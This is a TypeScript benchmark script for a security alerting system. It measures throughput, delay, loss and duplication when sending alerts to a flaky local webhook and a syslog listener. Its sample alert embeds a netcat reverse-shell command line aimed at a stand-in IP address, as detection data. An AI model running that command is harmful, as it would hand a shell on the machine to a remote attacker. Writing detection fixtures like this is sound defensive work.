// bench:alerts — alert delivery through the durable outbox: 10,000 alerts queued as the API queues them (one
// enqueue per alert) for two sinks at once, a webhook on 127.0.0.1 that answers 503 to 10 % of requests at random
// (retried with backoff) and a syslog TCP peer (RFC 6587 octet-counted frames, parsed here). Reports alerts
// delivered to both sinks per second (first enqueue to last delivery), the p50/p99 delay from an alert's enqueue
// to its delivery (each sink), and what was lost (an alert a sink never got) and duplicated (a sink got it twice).
// The outbox is SQLite (the embedded store) unless --store postgres (a throw-away database on 127.0.0.1:5432).
// By default the alerts are queued as fast as the outbox takes them (a burst: the delay then includes the wait
// behind the backlog); --rate N queues N alerts a second (the delay of a steady flow).
//   node bench/alerts.ts [--alerts 10000] [--fail 0.1] [--store sqlite|postgres] [--per-sink 64] [--rate 0]

import { mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import { createServer as createTcpServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { pino } from 'pino';
import { AlertDispatcher } from '../src/alerts/dispatcher.ts';
import type { AlertDoc } from '../src/alerts/formats.ts';
import { secretBox } from '../src/alerts/secret-box.ts';
import { SqlAlertSinkStore } from '../src/stores/alert-sinks/sql-alert-sinks.ts';
import { openPostgresDb } from '../src/stores/sql/postgres-db.ts';
import { openSqliteDb } from '../src/stores/sql/sqlite-db.ts';
import { createTempDatabase } from '../test/support/postgres.ts';

const { values } = parseArgs({ options: {
  alerts: { type: 'string', default: '10000' }, fail: { type: 'string', default: '0.1' }, store: { type: 'string', default: 'sqlite' },
  'per-sink': { type: 'string', default: '64' }, rate: { type: 'string', default: '0' },
} });
const RATE = Number(values.rate);
const ALERTS = Number(values.alerts);
const FAIL = Number(values.fail);

const queuedAt = new Map<string, number>();
const got = { webhook: new Map<string, number>(), syslog: new Map<string, number>() };
const delays: Record<'webhook' | 'syslog', number[]> = { webhook: [], syslog: [] };
let duplicates = 0;
let injected = 0;

function received(sink: 'webhook' | 'syslog', alertId: string): void {
  const n = got[sink].get(alertId) ?? 0;
  got[sink].set(alertId, n + 1);
  if (n) duplicates++;
  else delays[sink].push(Date.now() - queuedAt.get(alertId)!);
}

const hook = createServer((req, res) => {
  const chunks: Buffer[] = [];
  req.on('data', (c: Buffer) => chunks.push(c));
  req.on('end', () => {
    if (Math.random() < FAIL) {
      injected++;
      return void res.writeHead(503).end();
    }
    received('webhook', JSON.parse(Buffer.concat(chunks).toString()).alert.id);
    res.writeHead(204).end();
  });
});

/** Splits RFC 6587 octet-counted frames ("LEN SP MSG") of one connection. */
const syslog = createTcpServer((socket) => {
  let buf = Buffer.alloc(0);
  socket.on('data', (c: Buffer) => {
    buf = Buffer.concat([buf, c]);
    for (;;) {
      const sp = buf.indexOf(0x20);
      if (sp < 0) return;
      const len = Number(buf.subarray(0, sp).toString());
      if (buf.length < sp + 1 + len) return;
      const msg = buf.subarray(sp + 1, sp + 1 + len).toString();
      buf = buf.subarray(sp + 1 + len);
      received('syslog', /alert_id="([^"]+)"/.exec(msg)![1]);
    }
  });
});

function alert(i: number): AlertDoc {
  const at = new Date().toISOString();
  return {
    id: `bench-${i}`, tenant_id: 'default', host_id: `host-${i % 50}`,
    rule: { id: `rule-${i % 150}`, title: 'Netcat reverse shell', author: 'Vigil', level: 'high' },
    techniques: [{ id: 'T1059.004', name: 'Unix Shell', tactics: ['Execution'] }],
    events: [{ host: { hostname: `host-${i % 50}.example` }, user: { name: 'www-data' }, process: { command_line: '/usr/bin/nc 203.0.113.7 4444 -e /bin/sh' }, destination: { ip: '203.0.113.7', port: 4444 } }],
    first_seen: at, last_seen: at, occurrences: 1, process: { command_line: '/usr/bin/nc 203.0.113.7 4444 -e /bin/sh', executable: '/usr/bin/nc', pid: i, user_name: 'www-data' },
  };
}

const pct = (xs: number[], p: number) => {
  const s = [...xs].sort((a, b) => a - b);
  return s.length ? s[Math.min(s.length - 1, Math.ceil((p / 100) * s.length) - 1)] : 0;
};

async function openStore(): Promise<{ store: SqlAlertSinkStore; dispose(): Promise<void> }> {
  const box = secretBox(Buffer.alloc(32, 1));
  if (values.store === 'postgres') {
    const db = await createTempDatabase('bench_alerts');
    const store = await SqlAlertSinkStore.open(openPostgresDb(db.config, { max: 8 }), box);
    return { store, async dispose() { await store.close(); await db.drop(); } };
  }
  const dir = mkdtempSync(join(tmpdir(), 'vigil-bench-alerts-'));
  const store = await SqlAlertSinkStore.open(openSqliteDb(join(dir, 'metadata.db')), box);
  return { store, async dispose() { await store.close(); rmSync(dir, { recursive: true, force: true }); } };
}

await Promise.all([new Promise<void>((r) => hook.listen(0, '127.0.0.1', r)), new Promise<void>((r) => syslog.listen(0, '127.0.0.1', r))]);
const { store, dispose } = await openStore();
const base = { tenantId: 'default', filters: {}, template: null, secret: null, enabled: true, createdBy: 'bench', createdAt: Date.now() };
const fast = { rate_per_minute: 100_000 };
await store.create({ ...base, name: 'webhook', type: 'webhook', format: 'vigil', url: `http://127.0.0.1:${(hook.address() as AddressInfo).port}/`, options: fast, secret: 'bench-webhook-secret-0123' });
await store.create({ ...base, name: 'syslog', type: 'syslog', format: 'cef', url: `tcp://127.0.0.1:${(syslog.address() as AddressInfo).port}`, options: fast });
const dispatcher = new AlertDispatcher({ sinks: store, outbox: store, log: pino({ level: 'warn' }) }, {
  allowPrivateTargets: true, pollMs: 20, baseDelayMs: 100, maxDelayMs: 2000, maxAttempts: 10, perSink: Number(values['per-sink']), repeatWindowMs: 0,
  breakerThreshold: 20, breakerCooldownMs: 500,
});
dispatcher.start();
const start = Date.now();
for (let i = 0; i < ALERTS; i++) {
  const due = RATE > 0 ? start + (i * 1000) / RATE : 0;
  if (due > Date.now()) await new Promise((r) => setTimeout(r, due - Date.now()));
  queuedAt.set(`bench-${i}`, Date.now());
  await dispatcher.enqueue(alert(i));
}
const queuedMs = Date.now() - start;
const deadline = Date.now() + 300_000;
while ((got.webhook.size < ALERTS || got.syslog.size < ALERTS) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
const elapsedMs = Date.now() - start;
await new Promise((r) => setTimeout(r, 1000)); // a late repeat would show now
await dispatcher.close();
const dead = (await Promise.all((await store.forTenant('default')).map((s) => store.health(s.id)))).reduce((n, h) => n + h.dead, 0);
await dispose();
hook.closeAllConnections();
hook.close();
syslog.close();

const lost = ALERTS * 2 - got.webhook.size - got.syslog.size;
const report = {
  bench: 'alerts', store: values.store, alerts: ALERTS, rate: RATE || 'burst', sinks: 2, injected_failures: injected, dead_letters: dead,
  queue_ms: queuedMs, elapsed_ms: elapsedMs, alerts_per_s: Math.round((ALERTS / elapsedMs) * 1000),
  p50_delay_ms: Math.max(pct(delays.webhook, 50), pct(delays.syslog, 50)),
  p99_delay_ms: Math.max(pct(delays.webhook, 99), pct(delays.syslog, 99)),
  p99_delay_webhook_ms: pct(delays.webhook, 99), p99_delay_syslog_ms: pct(delays.syslog, 99),
  lost, duplicates,
};
console.log(JSON.stringify(report));
process.exit(lost === 0 && duplicates === 0 ? 0 : 1);
